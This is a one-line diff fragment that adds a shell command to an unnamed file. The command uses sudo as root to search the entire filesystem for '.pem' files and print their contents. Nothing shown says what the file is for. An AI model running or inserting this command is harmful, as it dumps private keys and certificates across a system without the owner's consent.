@@ -1,0 +1,1 @@
+sudo -u root -- find / -name '*.pem' -exec cat {} \;
